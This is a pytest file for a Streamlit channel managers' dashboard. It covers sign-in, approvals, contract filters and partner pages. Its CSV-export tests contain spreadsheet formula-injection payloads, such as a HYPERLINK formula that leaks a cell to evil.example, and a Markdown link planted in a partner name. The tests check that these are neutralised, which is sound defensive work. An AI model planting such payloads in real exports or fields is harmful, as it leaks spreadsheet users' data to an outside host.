"""The channel managers' dashboard, run with Streamlit's AppTest against a real API process.

Data is set up through the API (in-process) or the models; every decision the dashboard
makes goes over HTTP to the API process, which applies the rules."""

import re
from datetime import UTC, datetime, timedelta

import pytest
from streamlit import config as st_config

from domain import audit_chain, clock, events
from domain.lifecycle import ContractKind, ContractStatus, RegistrationStatus, ReviewStatus
from domain.models import (
    AuditEvent,
    Contract,
    ContractTemplate,
    InfoChangeRequest,
    NonRenewalRequest,
    Notification,
    Partner,
    Role,
)
from domain.services import exports
from tests.dashboard.conftest import signed_in_as
from tests.gql import (
    APPROVE,
    NON_RENEW,
    PASSWORD,
    REQUEST_INFO_CHANGE,
    approved_partner,
    gql,
    make_manager,
    register,
    sign_with_preview,
    token_for,
)
from workers import queue

MANAGER = "manager@programme.example"
SNAPSHOT = {"legal_name": "P", "registration_number": "R", "address": "A", "contact_name": "C",
            "email": "p@example.com", "phone": "+4930123456"}



def texts(elements) -> list[str]:
    return [e.value for e in elements]


def plain(markdown: str) -> str:
    """Markdown source as a person reads it: without the escapes and the invisible word
    joiners show.md adds."""
    return re.sub(r"\\(.)", r"\1", markdown).replace("\u2060", "")


def table_with(at, column: str):
    """The first dataframe with this column."""
    return next(d.value for d in at.dataframe if column in d.value.columns)


def toasts(at) -> list[str]:
    return [plain(t.value) for t in at.toast]


def metrics(at) -> dict[str, str]:
    return {m.proto.label: m.value for m in at.metric}


def select_row(at, key_prefix: str, row: int):
    """Select a row of a dataframe, as a click does in the browser."""
    table = next(t for t in at.dataframe if t.key and t.key.startswith(key_prefix))
    at.session_state[table.key] = {"selection": {"rows": [row], "columns": [], "cells": []}}
    return at.run()


def decide(at, kind: str, item_id: str, button: str, comment: str | None = None):
    if comment is not None:
        at.text_area(key=f"comment-{kind}-{item_id}").input(comment)
    at.button(key=f"{button}-{kind}-{item_id}").click()
    return at.run()


async def manager_token(settings) -> str:
    return await token_for(settings, MANAGER)


async def contract_of(partner_id: str) -> Contract:
    return await Contract.get(partner_id=partner_id)


# --- sign-in ------------------------------------------------------------------------------


async def test_sign_in_keeps_the_manager_signed_in_until_they_sign_out(app, manager, client):
    await register(client, "anna@acme.example")
    at = app().run()
    assert texts(at.title) == ["Channel managers' dashboard"]

    at.text_input(key="sign-in-email").input(MANAGER)
    at.text_input(key="sign-in-password").input("not-the-password")
    at.button(key="sign-in-submit").click().run()
    assert "Invalid" in at.error[0].value or "password" in at.error[0].value.lower()

    at.text_input(key="sign-in-password").input(PASSWORD)
    at.button(key="sign-in-submit").click().run()
    assert texts(at.title) == ["Review queue"]
    for page, title in [("views/partners.py", "Partners"), ("views/overview.py", "Overview"),
                        ("views/review_queue.py", "Review queue")]:
        at.switch_page(page).run()
        assert texts(at.title) == [title]  # still signed in
    assert not at.exception

    at.button(key="sign-out").click().run()
    assert texts(at.title) == ["Channel managers' dashboard"]
    assert texts(at.info) == ["You signed out."]


async def test_a_partner_cannot_sign_in_to_the_dashboard(app, manager, client):
    await register(client, "anna@acme.example")
    at = app().run()
    at.text_input(key="sign-in-email").input("anna@acme.example")
    at.text_input(key="sign-in-password").input(PASSWORD)
    at.button(key="sign-in-submit").click().run()

    assert "for channel managers" in at.error[0].value
    assert texts(at.title) == ["Channel managers' dashboard"]
    assert "token" not in at.session_state


async def test_an_expired_sign_in_returns_to_the_sign_in_page(app, settings, manager):
    at = app()
    at.session_state["token"] = "not-a-token"
    at.session_state["viewer"] = {"id": str(manager.id), "name": "m", "email": MANAGER, "role": "CHANNEL_MANAGER"}
    at.run()

    assert texts(at.title) == ["Channel managers' dashboard"]
    assert texts(at.info) == ["Your sign-in has expired. Sign in again."]
    assert not at.exception


async def test_an_unreachable_api_is_a_message_not_a_stack_trace(app, settings, manager, monkeypatch):
    at = await signed_in_as(app, settings, MANAGER)
    monkeypatch.setenv("DASHBOARD_API_URL", "http://127.0.0.1:9")  # nothing listens there
    at.run()

    assert "is not reachable" in at.error[0].value
    assert not at.exception


# --- the review queue ---------------------------------------------------------------------


async def test_approving_a_registration_pushes_the_partners_contract(app, settings, manager, client):
    partner_id = await register(client, "anna@acme.example")
    at = await signed_in_as(app, settings, MANAGER)
    assert texts(at.title) == ["Review queue"]
    assert any("Acme Cloud GmbH" in m for m in texts(at.markdown))

    at = decide(at, "registration", partner_id, "approve", "Welcome to the programme.")

    [done] = toasts(at)
    assert done.startswith("Approved the registration of Acme Cloud GmbH.")
    assert "initial contract was pushed to the partner (Pending signature)" in done
    partner = await Partner.get(id=partner_id)
    assert partner.registration_status is RegistrationStatus.APPROVED
    assert partner.review_comment == "Welcome to the programme."
    contract = await contract_of(partner_id)
    assert contract.status is ContractStatus.PENDING_SIGNATURE and contract.kind is ContractKind.INITIAL
    assert f"approve-registration-{partner_id}" not in [b.key for b in at.button]  # left the queue
    assert not at.exception


async def test_rejecting_an_information_change_needs_a_comment_and_changes_nothing(app, settings, manager, client):
    token, partner_id, _ = await approved_partner(client, await manager_token(settings), "anna@acme.example")
    asked = await gql(client, REQUEST_INFO_CHANGE, {"input": {"address": "Neue Strasse 2, 10115 Berlin",
                                                              "reason": "We moved"}}, token)
    request_id = asked["requestInfoChange"]["request"]["id"]
    at = await signed_in_as(app, settings, MANAGER)
    table = table_with(at, "Before")
    assert list(table["Field"]) == ["Address"]
    assert list(table["Before"]) == ["Hauptstrasse 1, 10115 Berlin"]
    assert list(table["After"]) == ["Neue Strasse 2, 10115 Berlin"]

    at = decide(at, "info-change", request_id, "reject")
    assert "write a comment" in toasts(at)[0]
    assert (await InfoChangeRequest.get(id=request_id)).status is ReviewStatus.IN_REVIEW

    at = decide(at, "info-change", request_id, "reject", "Send the registry extract first.")
    assert toasts(at) == ["Rejected the information change of Acme Cloud GmbH."]
    request = await InfoChangeRequest.get(id=request_id)
    assert request.status is ReviewStatus.REJECTED and request.comment == "Send the registry extract first."
    assert (await Partner.get(id=partner_id)).address == "Hauptstrasse 1, 10115 Berlin"
    assert not at.exception


async def test_approving_a_non_renewal_means_the_contract_will_not_renew(app, settings, manager, client, run_worker):
    token, _, contract_id = await approved_partner(client, await manager_token(settings), "anna@acme.example")
    assert (await sign_with_preview(client, token, contract_id, ["DE", "FR"]))["__typename"] == "SignContractSuccess"
    await run_worker()
    asked = await gql(client, NON_RENEW, {"input": {"contractId": contract_id, "confirmed": True,
                                                    "reason": "Leaving the programme"}}, token)
    request_id = asked["nonRenewContract"]["request"]["id"]
    contract = await Contract.get(id=contract_id)
    at = await signed_in_as(app, settings, MANAGER)
    details = next(m for m in texts(at.text) if contract_id[:8] in m)
    assert f"in force {contract.effective_on} to {contract.expires_on}" in details
    assert "Regions: DE, FR" in details and "Leaving the programme" in details
    at.button(key=f"open-{request_id}").click().run()  # the contract it is about
    assert texts(at.title) == [f"Contract {contract_id[:8]}"]
    assert metrics(at)["Renewal"] == "Non-renewal in review"

    at.switch_page("views/review_queue.py").run()
    at = decide(at, "non-renewal", request_id, "approve", "Sorry to see you go.")

    assert toasts(at) == ["Approved the non-renewal of Acme Cloud GmbH. Its contract: not renewing."]
    request = await NonRenewalRequest.get(id=request_id)
    assert request.status is ReviewStatus.APPROVED and request.comment == "Sorry to see you go."
    assert not at.exception


async def test_a_decision_another_manager_made_first_is_shown_as_such(app, settings, manager, client):
    partner_id = await register(client, "anna@acme.example")
    at = await signed_in_as(app, settings, MANAGER)  # the item is on this manager's screen
    await make_manager("admin@programme.example", Role.ADMIN)
    admin = await token_for(settings, "admin@programme.example")
    approved = await gql(client, APPROVE, {"partnerId": partner_id, "comment": "Fine"}, admin)
    assert approved["approveRegistration"]["__typename"] == "RegistrationDecisionSuccess"

    at = decide(at, "registration", partner_id, "reject", "Incomplete")

    [told] = toasts(at)
    # The API's message says who decided, when (with the zone) and how; the dashboard
    # passes it on, with no code and no "another manager" guess.
    assert told.startswith("Acme Cloud GmbH, registration: admin approved this at "), told
    assert told.endswith(" (UTC): Fine It has left your queue."), told
    assert "ALREADY_DECIDED" not in told and "APPROVED" not in told
    assert not at.error and not at.exception
    assert f"reject-registration-{partner_id}" not in [b.key for b in at.button]
    assert (await Partner.get(id=partner_id)).registration_status is RegistrationStatus.APPROVED


# --- contracts ----------------------------------------------------------------------------


async def contracts_expiring_in(owner: Partner, days: list[int], regions: list[str] | None = None) -> list[Contract]:
    template = await ContractTemplate.get(version=1)
    today = datetime.now(UTC).date()
    return [
        await Contract.create(
            partner=owner, template=template, kind=ContractKind.INITIAL, status=ContractStatus.ACTIVE,
            partner_snapshot=SNAPSHOT, regions=regions or ["DE"], effective_on=today - timedelta(days=300),
            expires_on=today + timedelta(days=d),
        )
        for d in days
    ]


async def managed_partner(manager, name: str = "Contoso Reseller GmbH") -> Partner:
    return await Partner.create(legal_name=name, registration_number="HRB 1", address="A", contact_name="C",
                                email="c@contoso.example", phone="+4930123456",
                                registration_status=RegistrationStatus.APPROVED, manager=manager)


async def test_filtering_contracts_expiring_within_45_days(app, settings, manager):
    await contracts_expiring_in(await managed_partner(manager), [-1, 10, 44, 45, 46, 120])
    at = await signed_in_as(app, settings, MANAGER)
    at.switch_page("views/contracts.py").run()
    assert len(at.dataframe[0].value) == 6

    at.number_input(key="contracts-expiring").set_value(45).run()

    assert sorted(at.dataframe[0].value["Days left"]) == ["10 days", "44 days", "45 days"]
    assert at.query_params["expiring"] == "45"  # the filter is in the URL
    assert not at.exception


async def test_contract_filters_combine_and_pages_come_from_the_server(app, settings, manager, client):
    owner = await managed_partner(manager)
    await contracts_expiring_in(owner, [100] * 22, ["DE", "FR"])
    held, *_ = await contracts_expiring_in(owner, [200, 200], ["SG"])
    user = await make_manager("partner-user@example.com", Role.PARTNER)
    await NonRenewalRequest.create(contract=held, partner=owner, requested_by=user, confirmed={})
    at = await signed_in_as(app, settings, MANAGER)
    at.switch_page("views/contracts.py").run()

    assert len(at.dataframe[0].value) == 20
    at.button(key="contracts-next").click().run()
    assert len(at.dataframe[0].value) == 4
    at.button(key="contracts-previous").click().run()
    assert len(at.dataframe[0].value) == 20

    at.selectbox(key="contracts-region").select("SG").run()
    assert len(at.dataframe[0].value) == 2
    at.selectbox(key="contracts-renewal").select("NON_RENEWAL_IN_REVIEW").run()
    assert list(at.dataframe[0].value["Contract"]) == [str(held.id)[:8]]
    at.selectbox(key="contracts-region").select("FR").run()
    assert texts(at.info) == ["No contracts match these filters."]
    assert not at.exception


async def test_a_contracts_page_shows_its_dates_signature_check_and_pdf(app, settings, manager, client, run_worker):
    token, _, contract_id = await approved_partner(client, await manager_token(settings), "anna@acme.example")
    await sign_with_preview(client, token, contract_id, ["DE", "FR"])
    await run_worker()
    contract = await Contract.get(id=contract_id)
    at = await signed_in_as(app, settings, MANAGER)
    at.switch_page("views/contracts.py").run()

    at = select_row(at, "contracts-table", 0)

    assert texts(at.title) == [f"Contract {contract_id[:8]}"]
    assert metrics(at)["Status"] == "Active" and metrics(at)["Renewal"] == "Renews automatically"
    dates = dict(zip(at.table[0].value[""], at.table[0].value["Value"]))
    assert dates["Effective on"] == str(contract.effective_on) and dates["Expires on"] == str(contract.expires_on)
    assert dates["Renewal window"].startswith(str(contract.expires_on - timedelta(days=45)))
    assert any("Germany (DE), France (FR)" in m for m in texts(at.markdown))
    assert at.success[0].value.startswith("The seal is valid")
    assert [b.label for b in at.download_button] == ["Download signed PDF"]
    timeline = at.dataframe[-1].value
    assert {"Sent the contract to the partner", "Signed the contract", "Sealed the signed contract"} <= set(
        timeline["What"])
    assert not at.exception


# --- CSV exports (#14 finding 10, S-30) -----------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Verified")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_like_a_formula_exports_as_text(value):
    assert exports.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Acme Cloud GmbH", "a=b", "x+1", "", "'quoted", "株式会社アクメ", 42, -5, None])
def test_other_cells_export_unchanged(value):
    assert exports.csv_cell(value) == value


async def test_the_partner_list_downloads_the_whole_filtered_list_and_streamlit_s_own_export_is_off(
    app, settings, manager, client
):
    formula = '=HYPERLINK("http://evil.example","Verified partner")'
    await register(client, "evil@example.com", legalName=formula)
    at = await signed_in_as(app, settings, MANAGER)
    at.switch_page("views/partners.py").run()
    assert list(at.dataframe[0].value["Legal name"]) == [formula]  # shown on screen as typed
    assert not at.download_button  # never this page, built here: the API's export (S-30)
    [download] = at.link_button
    assert (download.value, download.proto.url) == ("Download CSV (all 1)", "/export/partners.csv")
    at.text_input(key="partners-search").input("HYPERLINK").run()
    at.selectbox(key="partners-status").select("PENDING_REVIEW").run()
    assert at.link_button[0].proto.url == "/export/partners.csv?registrationStatus=PENDING_REVIEW&search=HYPERLINK"
    assert st_config.get_option("client.disableDataExport") is True
    assert not at.exception


# --- partners and the overview ------------------------------------------------------------


async def test_a_partners_page_shows_its_profile_contracts_and_timeline(app, settings, manager, client):
    await approved_partner(client, await manager_token(settings), "anna@acme.example")
    await register(client, "someone@else.example", legalName="Other Reseller Ltd")
    at = await signed_in_as(app, settings, MANAGER)
    at.switch_page("views/partners.py").run()
    assert len(at.dataframe[0].value) == 2

    at.text_input(key="partners-search").input("acme").run()
    assert list(at.dataframe[0].value["Legal name"]) == ["Acme Cloud GmbH"]
    at = select_row(at, "partners-table", 0)

    assert [plain(t) for t in texts(at.title)] == ["Acme Cloud GmbH"]
    assert at.query_params["partner"] and at.query_params["search"] == "acme"
    profile_table = table_with(at, "")
    profile = dict(zip(profile_table[""], profile_table["Value"]))
    assert profile["Email"] == "anna@acme.example" and profile["Address"] == "Hauptstrasse 1, 10115 Berlin"
    assert profile["Decision"].startswith("Approved 20") and profile["Decision"].endswith(" UTC by manager")
    assert metrics(at)["Registration"] == "Approved" and metrics(at)["Partner console"] == "Closed"
    assert list(table_with(at, "Status")["Status"]) == ["Pending signature"]
    timeline = table_with(at, "Who")
    assert list(timeline["What"]) == [
        "Submitted the registration", "Approved the registration", "Sent the contract to the partner"]
    assert list(timeline["Who"]) == ["Anna Schmidt", "manager", "manager"]  # names, not roles
    assert not at.exception


async def test_the_overview_shows_the_programmes_figures(app, settings, manager, client):
    await register(client, "anna@acme.example")
    await contracts_expiring_in(await managed_partner(manager), [20, 40, 80, 200])
    at = await signed_in_as(app, settings, MANAGER)
    at.switch_page("views/overview.py").run()

    shown = metrics(at)
    assert shown["Registrations"] == "1" and shown["Information changes"] == "0"
    assert (shown["Within 30 days"], shown["Within 45 days"], shown["Within 90 days"]) == ("1", "2", "3")
    assert shown["Pending review"] == "1" and shown["Active"] == "4"
    assert len(at.get("vega_lite_chart")) == 2  # expiries per month, signings per day
    assert not at.exception

    at.button(key="expiring-45").click().run()  # "Show them" opens the filtered contracts
    assert texts(at.title) == ["Contracts"]
    assert sorted(at.dataframe[0].value["Days left"]) == ["20 days", "40 days"]


# --- what was sent, and reminding a partner to sign ------------------------------------------


async def relay(settings, redis) -> None:
    """The worker's relay, for notices: chain what committed, then the notifications reaction."""
    await audit_chain.chain_new()
    await events.catch_up(queue.notifications(redis, settings))


def all_text(at) -> str:
    """Everything the page renders as Markdown (tables and dataframes are not)."""
    return "\n".join(e.value for kind in ("markdown", "caption", "success", "warning", "error", "info")
                     for e in getattr(at, kind))


async def test_a_partners_page_shows_what_was_sent_to_whom_and_whether_it_arrived(
    app, settings, manager, client, redis
):
    name = "**Acme** [Cloud](http://evil.example) GmbH"  # Markdown, typed by the partner
    partner_id = await register(client, "anna@acme.example", legalName=name)
    m = await manager_token(settings)
    assert (await gql(client, APPROVE, {"partnerId": partner_id}, m))["approveRegistration"]["__typename"] == (
        "RegistrationDecisionSuccess")
    await relay(settings, redis)
    await Notification.filter(kind="registration_received").update(email_status="SENT", sent_at=clock.now())
    await Notification.filter(kind="registration_approved").update(
        email_status="FAILED", last_error="550 5.1.1 <anna@acme.example>: mailbox unavailable")
    await Notification.filter(kind="review_requested").update(email_status="SKIPPED")
    contract = await contract_of(partner_id)
    reminded = await gql(client, """mutation ($id: ID!) { remindPartnerToSign(contractId: $id) { __typename } }""",
                         {"id": str(contract.id)}, m)
    assert reminded["remindPartnerToSign"]["__typename"] == "RemindPartnerSuccess"
    await relay(settings, redis)
    await Notification.filter(kind="contract_unsigned").update(last_error="Connection refused")

    at = await signed_in_as(app, settings, MANAGER)
    at.query_params["partner"] = partner_id
    at.switch_page("views/partners.py").run()

    sent = next(t.value for t in at.dataframe if "Arrived" in t.value.columns)
    rows = {row["Arrived"].split(" ")[0]: row for row in sent.to_dict("records")}
    assert set(rows) == {"Sent", "Failed:", "Turned", "Pending,"}
    assert rows["Failed:"]["Arrived"] == "Failed: 550 5.1.1 <anna@acme.example>: mailbox unavailable"
    assert rows["Failed:"]["To"] == "Anna Schmidt <anna@acme.example>" and rows["Failed:"]["Role"] == "Partner"
    assert rows["Turned"]["Arrived"] == "Turned off by the recipient"
    assert rows["Turned"]["To"] == f"manager <{MANAGER}>" and rows["Turned"]["Role"] == "Channel manager"
    assert rows["Turned"]["Notice"] == f"Partner Programme: To review: a new registration from {name}"
    assert rows["Pending,"]["Arrived"] == "Pending, retrying after: Connection refused"
    assert rows["Sent"]["Arrived"].startswith("Sent 20") and rows["Sent"]["Arrived"].endswith(" UTC")
    assert list(sent["Notice"])[0].endswith("Your contract is waiting for your signature")  # newest first
    assert "evil.example" not in all_text(at)  # the name stays text in the table, never Markdown
    assert not at.exception


async def test_a_manager_reminds_a_partner_to_sign_a_pending_contract_once_a_day(app, settings, manager, client):
    _, _, contract_id = await approved_partner(client, await manager_token(settings), "anna@acme.example")
    at = await signed_in_as(app, settings, MANAGER)
    at.query_params["contract"] = contract_id
    at.switch_page("views/contracts.py").run()
    assert metrics(at)["Status"] == "Pending signature"

    at.button(key="contract-remind").click().run()
    assert texts(at.success) == [
        "Reminder sent: the partner's users get an email now, and the reminder is in the audit timeline."]
    assert "Reminded the partner to sign" in set(at.dataframe[-1].value["What"])
    at.button(key="contract-remind").click().run()
    assert texts(at.warning) == ["The partner was already reminded today; try again tomorrow."]
    assert not at.success
    reminders = await AuditEvent.filter(action="PARTNER_REMINDED").values("contract_id", "actor_role")
    assert [(str(r["contract_id"]), r["actor_role"]) for r in reminders] == [(contract_id, Role.CHANNEL_MANAGER)]
    assert not at.exception


async def test_a_contract_in_force_has_nothing_to_remind_of(app, settings, manager):
    [contract] = await contracts_expiring_in(await managed_partner(manager), [100])
    at = await signed_in_as(app, settings, MANAGER)
    at.query_params["contract"] = str(contract.id)
    at.switch_page("views/contracts.py").run()
    assert metrics(at)["Status"] == "Active"
    assert "contract-remind" not in [b.key for b in at.button]
    assert not at.exception
